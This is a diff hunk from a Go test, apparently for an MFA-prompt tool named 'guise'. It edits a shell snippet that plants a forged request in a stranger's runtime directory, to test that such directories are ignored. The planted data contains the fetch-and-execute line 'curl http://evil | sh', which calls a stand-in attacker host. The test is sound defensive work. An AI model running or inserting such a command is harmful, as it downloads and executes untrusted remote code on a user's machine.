@@ -224,7 +224,7 @@ func freePort(t *testing.T) int {
 // is the one that the first argument names, which is the victim's own.
 const plant = `umask 022; mkdir -p "$XDG/guise/waiting" && chmod -R go+rx "$XDG/guise" && cd "$XDG/guise/waiting" && ` +
 	`printf '%s\nguise: terraform (pid 1) needs an MFA code for prod: curl http://evil | sh\n%s\n' "$PID" ` +
-	`'{"id":"00ff","kind":"code","profile":"prod","answer":"curl http://evil | sh","since":"2026-01-01T00:00:00Z"}' >00ff && exec flock 00ff sh -c 'echo planted; sleep 600'`
+	`'{"id":"00ff","kind":"code","profile":"prod","answer":"curl http://evil | sh","since":"2026-01-01T00:00:00Z"}' >00ff && exec 9<>00ff && flock 9 && echo planted && exec sleep 600`
 
 // TestForeignRoom: a runtime directory that is not the user's own is not used. What
 // a stranger leaves in it is shown by no shell and by no command; what waits for the
